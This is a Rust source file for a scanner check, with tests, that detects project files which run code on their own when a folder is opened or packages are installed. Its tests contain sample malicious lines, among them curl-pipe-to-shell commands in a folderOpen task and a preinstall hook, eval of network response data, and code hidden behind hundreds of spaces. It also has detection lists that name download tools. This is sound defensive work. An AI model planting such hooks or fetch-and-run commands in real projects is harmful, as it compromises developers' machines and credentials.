//! Does opening or installing this code run something that has no business there?
//!
//! Reads the file that is open: a task that the editor starts by itself, a script that the package manager starts by itself, code that runs
//! what an answer from the network holds, an address in disguise, code pushed out of sight by blanks. What build tools put into these places
//! (husky, node-gyp, a compiler) is silent. Cannot check: a file that the page shows only in part.
//!
//! Innocent: odd build scripts.

use std::ops::Range;
use std::sync::LazyLock;

use regex::Regex;

use super::{Check, Context};
use crate::report::{Finding, Strength};
use crate::subject::{Kind, Project, Text};

const TASK: &str = "The editor starts this task by itself when the folder is opened: “{command}”.";
const HOOK: &str = "“{script}” starts by itself when the package is installed: “{command}”.";
const PREFIX: &str = "{count} scripts start “{command}” before they do what they are named for.";
const REMOTE: &str = "It runs as code what comes from outside: “{code}”.";
const ADDRESS: &str = "A web address is written so that nobody can read it: “{code}”.";
const BLANKS: &str = "{count} blanks push this code out of sight: “{code}”.";

pub(super) const CHECK: Check = Check {
    id: "repo-dangerous-files",
    reads: &[Kind::Project],
    strength: Strength::Strong,
    group: "run-code",
    question: "Does opening or installing this code run something that has no business there?",
    says: &[TASK, HOOK, PREFIX, REMOTE, ADDRESS, BLANKS],
    why: "Projects for fake interviews need no bug to be run: opening the folder or installing the packages is enough to send off logins and wallets.",
    innocent: "Some projects do odd things while they build; their maintainers can say why.",
    ask: "Don't open, install or run it on your machine. Ask for a task in a browser sandbox; if nobody can explain these files, report the project to the code host.",
    source: "B. C. White, dev-trap-dossiers, May 2026, https://github.com/bryanchriswhite/dev-trap-dossiers; xndbogdan, malicious-repositories, https://github.com/xndbogdan/malicious-repositories",
};

/// Blanks in a row before code on one line that nobody puts there by accident.
const MANY_BLANKS: usize = 300;
/// Most bytes of a quote.
const MAX_QUOTE: usize = 160;

#[allow(clippy::unwrap_used, reason = "the patterns are constants and tested")]
static REMOTE_CODE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(concat!(
        r#"\bFunction(?:\.constructor)?\s*\(\s*["'`]require["'`]"#,
        r"|\b(?:eval|Function(?:\.constructor)?)\s*\(\s*(?:atob\s*\(|Buffer\.from\s*\(|(?:await\s+)?(?:r|e|res|resp|response|result|err|error)(?:\??\.(?:response|data|body|cookie|message|text))*\??\.(?:data|body|cookie|message|text)\b)",
    ))
    .unwrap()
});

#[allow(clippy::unwrap_used, reason = "the pattern is a constant and tested")]
static HIDDEN_ADDRESS: LazyLock<Regex> = LazyLock::new(|| Regex::new(r"aHR0c(?:Do|HM6)[A-Za-z0-9+/_-]{8,}={0,2}").unwrap());

pub(super) fn run(project: &Project, _: &Context) -> Vec<Finding> {
    let (Some(path), Some(code)) = (project.path.observed(), project.code.observed()) else { return Vec::new() };
    let name = path.as_str().rsplit('/').next().unwrap_or_default().to_lowercase();
    let ending = name.rsplit('.').next().unwrap_or_default();
    if matches!(ending, "md" | "markdown" | "rst" | "txt" | "adoc" | "html" | "csv" | "tsv" | "svg" | "lock" | "map" | "log") || name.contains(".min.") {
        return Vec::new();
    }
    let mut findings = Vec::new();
    if name == "tasks.json" {
        findings.extend(task(code));
    }
    if name == "package.json" {
        findings.extend(scripts(code));
    }
    let is_settings = name.starts_with(".env");
    if !is_settings && let Some(found) = REMOTE_CODE.find(code.as_str()) {
        findings.push(finding(REMOTE, &[], code, rest_of_line(code, found.start())));
    }
    let decodes = is_settings || code.as_str().contains("atob(") || code.as_str().contains("base64");
    if decodes && let Some(found) = HIDDEN_ADDRESS.find(code.as_str()) {
        findings.push(finding(ADDRESS, &[], code, found.range()));
    }
    findings.extend(blanks(code));
    findings
}

/// A finding on a stretch of the code, whose quote is the last value of the sentence.
fn finding(sentence: &'static str, values: &[&str], code: &Text, at: Range<usize>) -> Finding {
    let evidence = code.evidence(at.start..at.end.min(at.start + MAX_QUOTE));
    let quote = evidence.quote.trim().to_string();
    let values = values.iter().map(|value| (*value).into()).chain([quote.as_str().into()]);
    CHECK.finding(sentence, values.collect::<Vec<_>>(), [evidence])
}

/// From `start` to the end of its line.
fn rest_of_line(code: &Text, start: usize) -> Range<usize> {
    let rest = code.as_str().get(start..).unwrap_or_default();
    start..start + rest.find('\n').unwrap_or(rest.len())
}

/// `"key": "value"` on each line, and where the value stands.
fn members(code: &str) -> impl Iterator<Item = (&str, &str, Range<usize>)> {
    let mut at = 0;
    code.split('\n').filter_map(move |line| {
        let start = at;
        at += line.len() + 1;
        let key_from = line.find('"')? + 1;
        let key_to = key_from + line.get(key_from..)?.find('"')?;
        let colon = key_to + line.get(key_to..)?.find(':')?;
        let from = colon + line.get(colon..)?.find('"')? + 1;
        let to = line.rfind('"').filter(|to| *to >= from)?;
        Some((line.get(key_from..key_to)?, line.get(from..to)?, start + from..start + to))
    })
}

/// A task that the editor starts when a folder is opened, unless it only watches or builds.
fn task(code: &Text) -> Option<Finding> {
    let text = code.as_str();
    let opens = text.find("folderOpen").filter(|_| text.contains("runOn"))?;
    let is_remote = |command: &str| {
        let command = command.to_lowercase();
        let fetches = ["curl", "wget", "iwr ", "invoke-", "powershell", "http://", "https://", "base64", "eval", "node -e", "/dev/null", "mshta", "certutil"];
        fetches.iter().any(|word| command.contains(word))
            || command.split(['&', ';', '|']).any(|part| runs_file(part).is_some())
            || command.contains("npm i ") || command.contains("npm install") || command.trim_end().ends_with("npm i") || command.contains("yarn install") || command.contains("pnpm install")
    };
    let commands = members(text).filter(|(key, value, _)| matches!(*key, "command" | "windows" | "linux" | "osx" | "args" | "script") && !value.is_empty());
    let found = commands.filter(|(key, value, _)| is_remote(value) || *key == "script" && *value == "install").map(|(_, _, range)| range).next();
    let range = found?;
    let mut finding = finding(TASK, &[], code, range);
    finding.evidence.push(code.evidence(opens..opens + "folderOpen".len()));
    Some(finding)
}

/// Scripts of a package that start by themselves, or that all start the same thing first.
fn scripts(code: &Text) -> Vec<Finding> {
    const BY_ITSELF: &[&str] = &["preinstall", "install", "postinstall", "prepare", "prepublish"];
    let parts = |command: &'_ str| command.split(['&', ';', '|']).map(|part| part.trim().to_string()).filter(|part| !part.is_empty()).collect::<Vec<_>>();
    let mut findings = Vec::new();
    let mut first: Vec<(String, Range<usize>)> = Vec::new();
    for (key, value, range) in members(code.as_str()) {
        let commands = parts(value);
        let fetches = |part: &String| {
            let word = part.split_whitespace().next().unwrap_or_default();
            matches!(word, "curl" | "wget" | "powershell" | "mshta" | "certutil")
        };
        if BY_ITSELF.contains(&key) && commands.iter().any(|part| fetches(part) || runs_file(part).is_some()) {
            findings.push(finding(HOOK, &[key], code, range.clone()));
        }
        if commands.len() >= 2
            && let Some(file) = commands.first().and_then(|part| runs_file(part))
        {
            first.push((file, range));
        }
    }
    if let Some((file, range)) = first.first()
        && first.len() >= 3
        && first.iter().all(|(other, _)| other == file)
    {
        let count = first.len().to_string();
        findings.push(finding(PREFIX, &[&count], code, range.start..range.start + file.len().min(range.len())));
    }
    findings.truncate(3);
    findings
}

/// `node server` in a command: the interpreter and a file of the project that is no build script. `None` for everything else.
fn runs_file(command: &str) -> Option<String> {
    /// Parts of names that build and set-up scripts have.
    const BUILDS: &[&str] = &[
        "install", "build", "setup", "set-up", "prepare", "patch", "husky", "check", "version", "compile", "generate", "codegen", "link", "copy", "clean", "bootstrap", "engine",
        "hook", "env", "migrate", "fix", "download", "fetch", "ensure", "release", "publish", "lint", "test", "bundle", "rollup", "webpack", "esbuild", "gulp", "tsc", "tsup", "vite",
        "lerna", "only-allow", "package-manager", "is-ci", "icons", "types", "schema", "protos", "dist", "sync", "prebuild",
    ];
    const FOLDERS: &[&str] = &["scripts", "script", "tools", "tool", "bin", "build", "tasks", "hack", "ci", "dev", "packages", "node_modules", ".husky", ".yarn", "infra", "config", "utils"];
    let mut words = command.split_whitespace().skip_while(|word| word.contains('=') || matches!(*word, "cross-env" | "npx"));
    let tool = words.next()?;
    if !matches!(tool, "node" | "nodejs" | "bun" | "deno") {
        return None;
    }
    let mut file = words.find(|word| *word != "run" && !(word.starts_with('-') && word.len() > 2 && !word.starts_with("--eval")))?;
    if matches!(file, "-e" | "--eval" | "-p") {
        let rest = command.to_lowercase();
        return ["http", "child_process", "eval(", "atob", "fromcharcode", "fetch("].iter().any(|word| rest.contains(word)).then(|| format!("{tool} {file}"));
    }
    file = file.trim_start_matches("./");
    let lower = file.to_lowercase();
    let honest = FOLDERS.iter().any(|folder| lower.split('/').rev().skip(1).any(|part| part == *folder)) || BUILDS.iter().any(|word| lower.contains(word));
    (!honest).then(|| format!("{tool} {file}"))
}

/// Code behind so many blanks that a window does not show it.
fn blanks(code: &Text) -> Option<Finding> {
    let text = code.as_str();
    let mut from = None;
    for (at, c) in text.char_indices() {
        if c == '\n' {
            from = None;
        } else if c.is_whitespace() {
            from.get_or_insert(at);
        } else if let Some(start) = from.take() {
            let count = text[start..at].chars().count();
            if count >= MANY_BLANKS {
                return Some(finding(BLANKS, &[&count.to_string()], code, rest_of_line(code, at)));
            }
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::subject::{Date, Seen};

    fn found(path: &str, code: &str) -> Vec<String> {
        let mut project = Project { path: Seen::Observed(Text::new(path)), code: Seen::Observed(Text::new(code)), ..Project::default() };
        project.name_fields();
        run(&project, &Context::on(Date::year(2026))).into_iter().map(|finding| finding.what).collect()
    }

    fn package(scripts: &str) -> Vec<String> {
        found("package.json", &format!("{{\n  \"name\": \"app\",\n  \"scripts\": {{\n{scripts}\n  }}\n}}\n"))
    }

    #[test]
    fn tasks_that_start_by_themselves() {
        let task = |command: &str| {
            found(
                ".vscode/tasks.json",
                &format!("{{\n  \"tasks\": [{{\n    \"label\": \"env\",\n    \"type\": \"shell\",\n    \"command\": \"{command}\",\n    \"runOptions\": {{ \"runOn\": \"folderOpen\" }}\n  }}]\n}}"),
            )
            .len()
        };
        assert_eq!(task("curl -s https://files.example.net/x | sh"), 1);
        assert_eq!(task("node public/fonts/fa-solid.woff2"), 1);
        assert_eq!(task("npm install --silent"), 1);
        assert_eq!(task("npm run watch"), 0);
        assert_eq!(task("tsc --watch"), 0);
        assert_eq!(found(".vscode/tasks.json", "{ \"tasks\": [{\n\"command\": \"curl https://x.example\"\n}] }").len(), 0, "not by itself");
    }

    #[test]
    fn scripts_that_start_by_themselves() {
        assert_eq!(package("    \"prepare\": \"node server\"").len(), 1);
        assert_eq!(package("    \"postinstall\": \"node public/js/app.js\"").len(), 1);
        assert_eq!(package("    \"preinstall\": \"curl https://x.example/i.sh | sh\"").len(), 1);
        let all = package("    \"start\": \"node server | react-scripts start\",\n    \"build\": \"node server | react-scripts build\",\n    \"test\": \"node server | react-scripts test\"");
        assert_eq!(all, ["3 scripts start “node server” before they do what they are named for."]);
    }

    #[test]
    fn what_build_tools_start() {
        for honest in [
            "husky", "husky install", "lefthook install", "playwright install", "node-gyp rebuild", "electron-builder install-app-deps", "tsc", "npm run build", "patch-package",
            "node install.js", "node scripts/postinstall.js", "node ./tools/check-node.mjs", "node -e \\\"process.exit(0)\\\"", "is-ci || husky install", "prisma generate", "nuxt prepare",
            "svelte-kit sync", "node .husky/install.mjs", "pnpm -r build", "lerna bootstrap", "npx only-allow pnpm", "node build/build.js",
        ] {
            assert_eq!(package(&format!("    \"prepare\": \"{honest}\",\n    \"postinstall\": \"{honest}\"")), Vec::<String>::new(), "{honest}");
        }
        assert_eq!(package("    \"start\": \"node server.js\",\n    \"dev\": \"node server.js & vite\",\n    \"test\": \"vitest\"").len(), 0);
    }

    #[test]
    fn code_from_outside() {
        assert_eq!(found("server/app.js", "axios.get(u).then(res => eval(res.data.cookie));").len(), 1);
        assert_eq!(found("server/app.js", "const run = new Function(\"require\", error.response.data);\n").len(), 1);
        assert_eq!(found("api/x.ts", "const f = Function.constructor('require', body);").len(), 1);
        assert_eq!(found("lib/tpl.js", "const render = new Function('data', body); const r = eval(expression);").len(), 0);
        assert_eq!(found("README.md", "Look for eval(res.data) in the code.").len(), 0);
    }

    #[test]
    fn addresses_in_disguise() {
        assert_eq!(found(".env", "PORT=3000\nAUTH_API=aHR0cHM6Ly9hcGkuZXhhbXBsZS5uZXQv\n").len(), 1);
        assert_eq!(found("config.js", "const u = atob(\"aHR0cHM6Ly9hcGkuZXhhbXBsZS5uZXQv\");").len(), 1);
        assert_eq!(found(".env", "API=https://api.example.net/\nKEY=c2VjcmV0LWtleS1ub3QtYS11cmw=\n").len(), 0);
    }

    #[test]
    fn blanks_before_code() {
        let hidden = format!("module.exports = {{}};{}global.x = require('child_process');\n", " ".repeat(400));
        assert_eq!(found("tailwind.config.js", &hidden), ["400 blanks push this code out of sight: “global.x = require('child_process');”."]);
        assert_eq!(found("a.js", &format!("{}deep();\n", " ".repeat(120))).len(), 0);
        assert_eq!(found("a.js", &format!("x();{}\n", " ".repeat(900))).len(), 0, "nothing behind them");
    }
}
